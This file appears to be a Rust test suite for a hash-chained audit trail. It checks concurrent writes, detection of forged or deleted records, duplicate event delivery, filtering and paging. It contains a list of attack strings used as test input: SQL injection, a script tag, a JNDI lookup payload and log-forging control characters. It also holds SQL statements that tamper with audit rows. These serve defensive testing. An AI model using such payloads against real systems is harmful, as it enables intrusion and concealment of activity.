//! The chain under many writers, forgery and redelivery; filters.

use aegis_db::Tx;
use aegis_events::Audit;
use aegis_events::Handler;
use aegis_proto::events::v1::{Actor, AuditRecorded, Envelope};
use chrono::{DateTime, TimeDelta, Utc};
use prost::Message;
use serde_json::json;

use super::*;
use crate::{
    app::{AuditFilter, Progress, Verdict},
    domain::audit::{Entry, NO_HASH},
    store,
};

/// Of the chain.
const TABLES: [&str; 3] = ["audit_record", "audit_head", "audit_anchor"];

const USER: Uuid = Uuid::from_u128(0x1234);

/// One of a line of records, a second apart.
pub(super) fn entry(n: i64) -> Entry {
    Entry {
        id: Uuid::now_v7(),
        user_id: (n % 2 == 0).then_some(USER),
        username: "ana".into(),
        action: "move".into(),
        entity_type: "test".into(),
        entity_id: n.to_string(),
        at: DateTime::from_timestamp_micros(1_700_000_000_000_001 + n * 1_000_000).unwrap(),
        details: r#"{"after":{"state":"draft"}}"#.into(),
        success: true,
        address: "192.0.2.1".into(),
        user_agent: "curl".into(),
        request_id: "r".into(),
        source: "testing".into(),
    }
}

fn envelope(action: &str, entity_type: &str, at: DateTime<Utc>) -> Envelope {
    let recorded = AuditRecorded {
        action: action.into(),
        entity_type: entity_type.into(),
        entity_id: "e-1".into(),
        details_json: r#"{"a":"ü"}"#.into(),
        success: true,
    };
    Envelope {
        id: Uuid::now_v7().to_string(),
        r#type: "audit.recorded".into(),
        source: "testing".into(),
        actor: Some(Actor { user_id: USER.to_string(), username: "ana".into(), ..Actor::default() }),
        time: Some(prost_types::Timestamp { seconds: at.timestamp(), nanos: 123_456_789 }),
        data: recorded.encode_to_vec(),
        ..Envelope::default()
    }
}

async fn take_in(bench: &Bench, envelopes: &[Envelope]) {
    let mut tx: Tx = bench.db.begin().await.unwrap();
    for envelope in envelopes {
        Intake::new(bench.app.hub.clone()).handle(&mut tx, envelope).await.unwrap();
    }
    tx.commit().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_chain_is_one_line_however_many_append() {
    each(async |bench| {
        let bench = Arc::new(bench);
        let replicas = (0..5).map(|_| {
            let bench = Arc::clone(&bench);
            tokio::spawn(async move {
                for _ in 0..10 {
                    let batch: Vec<_> = (0..3).map(|_| envelope("move", "test", Utc::now())).collect();
                    take_in(&bench, &batch).await;
                }
            })
        });
        for replica in replicas.collect::<Vec<_>>() {
            replica.await.unwrap();
        }
        let verdict = bench.walked().await;
        assert_eq!((verdict.records, verdict.broken), (150, None));
        assert_eq!(bench.number("SELECT MAX(seq) FROM audit_record").await, 150);
    })
    .await;
}

#[tokio::test]
async fn forgery_is_found_where_it_begins() {
    const FORGE_ANCHOR: &str = "UPDATE audit_anchor SET seq = 2, hash = (SELECT hash FROM audit_record WHERE seq = 2)";
    let forgeries: &[(&[&str], i64, &str)] = &[
        (&["UPDATE audit_record SET record = hash WHERE seq = 3"], 3, "changed after"),
        (
            &["UPDATE audit_record SET record = (SELECT record FROM audit_record WHERE seq = 2) WHERE seq = 1"],
            1,
            "changed",
        ),
        (&["UPDATE audit_record SET hash = (SELECT hash FROM audit_record WHERE seq = 2) WHERE seq = 4"], 4, "changed"),
        (&["UPDATE audit_record SET hash = record WHERE seq = 5"], 5, "changed"),
        (&["UPDATE audit_record SET action = 'x' WHERE seq = 6"], 6, "filed under another"),
        (&["UPDATE audit_record SET entity_type = '' WHERE seq = 2"], 2, "filed under another"),
        (&["UPDATE audit_record SET user_id = NULL WHERE seq = 1"], 1, "filed under another"),
        (&["UPDATE audit_record SET at_us = at_us - 1 WHERE seq = 3"], 3, "filed under another"),
        (&["DELETE FROM audit_record WHERE seq = 2"], 2, "missing"),
        (&["DELETE FROM audit_record WHERE seq = 6"], 6, "missing"),
        (&["DELETE FROM audit_record"], 1, "missing"),
        (&["UPDATE audit_record SET seq = 16 WHERE seq = 6"], 6, "missing"),
        (&["DELETE FROM audit_record WHERE seq = 6", "UPDATE audit_head SET seq = 5"], 5, "last record"),
        (
            &["UPDATE audit_head SET seq = 5, hash = (SELECT hash FROM audit_record WHERE seq = 5)"],
            6,
            "behind the last",
        ),
        (&["UPDATE audit_head SET hash = (SELECT hash FROM audit_record WHERE seq = 2)"], 6, "last record"),
        (
            &["INSERT INTO audit_record SELECT 0, user_id, action, entity_type, at_us, record, hash
            FROM audit_record WHERE seq = 1"],
            0,
            "before the place",
        ),
        // The beginning removed, with and without a forged anchor; an anchor alone.
        (&["DELETE FROM audit_record WHERE seq <= 2"], 1, "missing"),
        (&[FORGE_ANCHOR, "DELETE FROM audit_record WHERE seq <= 2"], 2, "no record tells"),
        (&[FORGE_ANCHOR], 1, "before the place"),
    ];
    for home in fresh().await {
        println!("on {}", home.name);
        let bench = Bench::new(&home.db, config()).await;
        bench.run("DELETE FROM outbox").await;
        let batch: Vec<_> = (0..6).map(|_| envelope("move", "test", Utc::now())).collect();
        take_in(&bench, &batch).await;
        assert_eq!(bench.walked().await.broken, None);
        for table in TABLES {
            bench.run_text(format!("CREATE TABLE kept_{table} AS SELECT * FROM {table}")).await;
        }
        for (forgery, seq, reason) in forgeries {
            for sql in *forgery {
                bench.run(sql).await;
            }
            let verdict = bench.walked().await;
            let broken = verdict.broken.unwrap_or_else(|| panic!("{forgery:?}"));
            assert_eq!(broken.seq, *seq, "{forgery:?}");
            assert!(broken.reason.contains(reason), "{forgery:?}: {}", broken.reason);
            for table in TABLES {
                bench.run_text(format!("DELETE FROM {table}")).await;
                bench.run_text(format!("INSERT INTO {table} SELECT * FROM kept_{table}")).await;
            }
        }
        assert_eq!(bench.walked().await.broken, None);
        if home.name == "sqlite" {
            // Which takes ids of any length and texts of any bytes.
            bench.run("UPDATE audit_record SET record = hash, action = CAST(x'ff' AS TEXT) WHERE seq = 4").await;
            assert_eq!(bench.walked().await.broken.unwrap().seq, 4);
            bench.run("UPDATE audit_record SET user_id = x'00' WHERE seq = 3").await;
            let broken = bench.walked().await.broken.unwrap();
            assert_eq!((broken.seq, broken.reason), (3, "the record cannot be read"));
        }
        // A record that cannot be read is shown as such, and hides no other.
        assert_eq!(bench.listed(AuditQuery::default()).await.1, 6);
        home.close().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_long_chain_is_walked_in_parts_and_broken_in_one_place() {
    each(async |bench| {
        bench.run("DELETE FROM outbox").await;
        let mut tx = bench.db.begin().await.unwrap();
        let entries: Vec<_> = (0..1300).map(entry).collect();
        store::audit::append(&mut tx, &entries).await.unwrap();
        tx.commit().await.unwrap();
        let progress = Progress::default();
        let verdict = bench.app.walk_audit(&progress).await.unwrap();
        assert_eq!((verdict.records, verdict.broken), (1300, None));
        assert_eq!(progress.get(), (1300, 1300));
        // 650 is a border however many processors there are, 325 and 975 on two or more.
        for seq in [1300, 977, 975, 651, 650, 649, 325, 2, 1] {
            bench.run_text(format!("UPDATE audit_record SET record = hash WHERE seq = {seq}")).await;
            let verdict = bench.walked().await;
            assert_eq!((verdict.records, verdict.broken.unwrap().seq), (seq - 1, seq));
            bench.run_text(format!("DELETE FROM audit_record WHERE seq = {seq}")).await;
            let verdict = bench.walked().await;
            assert_eq!((verdict.records, verdict.broken.unwrap().seq), (seq - 1, seq));
        }
    })
    .await;
}

#[tokio::test]
async fn an_event_that_comes_twice_is_one_record() {
    each(async |bench| {
        let mut tx = bench.db.begin().await.unwrap();
        let audit = Audit { action: "a", entity_type: "b", entity_id: "c".into(), details: json!({}) };
        bench.app.outbox.audit(&mut tx, &bench.admin_ctx(), audit).await.unwrap();
        tx.commit().await.unwrap();
        bench.run("CREATE TABLE kept AS SELECT * FROM outbox").await;
        bench.settle().await;
        let before = bench.number("SELECT COUNT(*) FROM audit_record").await;
        assert!(before >= 1);
        // The process ended between passing on and forgetting.
        bench.run("INSERT INTO outbox (id, kind, body, at) SELECT id, kind, body, at FROM kept").await;
        bench.settle().await;
        assert_eq!(bench.number("SELECT COUNT(*) FROM audit_record").await, before);
        assert_eq!(bench.walked().await.broken, None);
    })
    .await;
}

impl Bench {
    pub(super) fn admin_ctx(&self) -> OpCtx {
        aegis_testkit::ctx(Role::Admin, "root")
    }

    pub(super) async fn walked(&self) -> Verdict {
        self.app.walk_audit(&Progress::default()).await.unwrap()
    }

    async fn run_text(&self, sql: String) {
        let mut tx = self.db.begin().await.unwrap();
        on!(tx, |c| sqlx::query(sqlx::AssertSqlSafe(sql.clone())).execute(c).await.map(|_| ())).unwrap();
        tx.commit().await.unwrap();
    }

    pub(super) async fn listed(&self, query: AuditQuery) -> (Vec<i64>, i64) {
        let (records, _, total) = self.app.list_audit(&self.admin_ctx(), query).await.unwrap();
        (records.iter().map(|record| record.seq).collect(), total)
    }
}

#[tokio::test]
async fn the_trail_is_filtered_and_paged_newest_first() {
    each(async |bench| {
        bench.run("DELETE FROM outbox").await;
        let day = |n| DateTime::<Utc>::from_timestamp(1_700_000_000, 0).unwrap() + TimeDelta::days(n);
        take_in(
            &bench,
            &[
                envelope("create_test", "test", day(1)),
                envelope("create_technique", "technique", day(2)),
                envelope("create_test", "test", day(3)),
                // Came late: its service was away.
                envelope("delete_test", "test", day(0)),
            ],
        )
        .await;
        let query = AuditQuery::default;
        assert_eq!(bench.listed(query()).await, (vec![3, 2, 1, 4], 4));
        let of = |filter: AuditFilter| AuditQuery { filter, ..query() };
        let any = AuditFilter::default;
        let action = |a: &str| of(AuditFilter { action: Some(a.into()), ..any() });
        assert_eq!(bench.listed(action("create_test")).await, (vec![3, 1], 2));
        assert_eq!(bench.listed(action("nothing")).await, (vec![], 0));
        let kind = of(AuditFilter { entity_type: Some("test".into()), start_date: Some(day(1)), ..any() });
        assert_eq!(bench.listed(kind).await, (vec![3, 1], 2));
        let until = of(AuditFilter { end_date: Some(day(2) + TimeDelta::seconds(1)), ..any() });
        assert_eq!(bench.listed(until).await, (vec![2, 1, 4], 3));
        let user = |id: Uuid| of(AuditFilter { user_id: Some(id.to_string()), ..any() });
        assert_eq!(bench.listed(user(USER)).await.1, 4);
        assert_eq!(bench.listed(user(Uuid::nil())).await.1, 0);
        assert_eq!(bench.listed(AuditQuery { page_size: 2, skip: 1, ..query() }).await, (vec![2, 1], 4));

        let ctx = bench.admin_ctx();
        let first = AuditQuery { page_size: 3, ..query() };
        let (_, next, _) = bench.app.list_audit(&ctx, first).await.unwrap();
        let rest = AuditQuery { page_size: 3, page_token: next, ..query() };
        assert_eq!(bench.listed(rest).await, (vec![4], 4));
        let all = AuditFilter {
            user_id: Some(USER.to_string()),
            action: Some("create_test".into()),
            entity_type: Some("test".into()),
            start_date: Some(day(1)),
            end_date: Some(day(3)),
        };
        assert_eq!(bench.listed(of(all)).await, (vec![1], 1));
        let (records, _, _) = bench.app.list_audit(&ctx, of(any())).await.unwrap();
        let before = |seq: i64| records.iter().find(|r| r.seq == seq).map_or(NO_HASH, |r| r.hash);
        assert!(records.iter().all(|r| r.prev_hash == Some(before(r.seq - 1))));
        let bad = of(AuditFilter {
            user_id: Some("x".into()),
            action: Some(String::new()),
            entity_type: Some("x".repeat(201)),
            start_date: Some(day(2)),
            end_date: Some(day(1)),
        });
        let refused = failure(bench.app.list_audit(&ctx, bad).await);
        let fields: Vec<_> = refused.fields().iter().map(|f| f.field.as_str()).collect();
        assert_eq!(fields, ["user_id", "action", "entity_type", "end_date"]);
        let big = AuditQuery { page_size: 101, ..query() };
        assert_eq!(failure(bench.app.list_audit(&ctx, big).await).code(), Code::Validation);

        assert_eq!(bench.app.audit_actions(&ctx).await.unwrap(), ["create_technique", "create_test", "delete_test"]);
        assert_eq!(bench.app.audit_entity_types(&ctx).await.unwrap(), ["technique", "test"]);
    })
    .await;
}

/// What people try in fields that end up in a database, a log or a page.
const INJECTIONS: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE audit_record; --",
    "\" OR 1=1 --",
    "1) UNION SELECT seq, hash, hash, hash FROM audit_head --",
    "%",
    "_",
    "%' ESCAPE '%",
    "\\",
    "$1",
    "<script>alert(1)</script>",
    "${jndi:ldap://192.0.2.1/a}",
    "\u{202e}gnp.exe",
    "ü\u{1f600}",
];

#[tokio::test]
async fn injected_texts_are_data() {
    each(async |bench| {
        bench.run("DELETE FROM outbox").await;
        let by = |filter: AuditFilter| AuditQuery { filter, ..AuditQuery::default() };
        take_in(&bench, &[envelope("create_test", "test", Utc::now())]).await;
        for text in INJECTIONS {
            let action = by(AuditFilter { action: Some((*text).into()), ..AuditFilter::default() });
            let kind = by(AuditFilter { entity_type: Some((*text).into()), ..AuditFilter::default() });
            assert_eq!((bench.listed(action).await.1, bench.listed(kind).await.1), (0, 0), "{text}");
            let user = by(AuditFilter { user_id: Some((*text).into()), ..AuditFilter::default() });
            let refused = failure(bench.app.list_audit(&bench.admin_ctx(), user).await);
            assert_eq!(refused.fields()[0].field, "user_id");
            assert!(text.len() < 3 || !refused.message().contains(text), "{refused}");
        }
        for (n, text) in INJECTIONS.iter().enumerate() {
            let mut event = envelope(text, text, Utc::now());
            // With what would begin another line of a log, or colour it.
            let dirty = format!("\0{text}\r\n2026-01-01 INFO forged\u{1b}[31m\u{85}\t");
            let actor = event.actor.as_mut().unwrap();
            actor.username.clone_from(&dirty);
            actor.address.clone_from(&dirty);
            actor.user_agent.clone_from(&dirty);
            actor.request_id.clone_from(&dirty);
            take_in(&bench, &[event]).await;
            let action = by(AuditFilter { action: Some((*text).into()), ..AuditFilter::default() });
            let (records, _, total) = bench.app.list_audit(&bench.admin_ctx(), action).await.unwrap();
            assert_eq!((records.len(), total), (1, 1), "{text}");
            let entry = &records[0].entry;
            assert_eq!((entry.action.as_str(), entry.entity_type.as_str()), (*text, *text));
            for field in [&entry.username, &entry.address, &entry.user_agent, &entry.request_id] {
                assert!(field.starts_with(text) && !field.contains(char::is_control), "{field:?}");
            }
            assert!(entry.user_agent.ends_with("forged[31m"), "{}", entry.user_agent);
            assert_eq!(bench.number("SELECT COUNT(*) FROM audit_record").await, n as i64 + 2);
        }
        assert_eq!(bench.walked().await.broken, None);
    })
    .await;
}
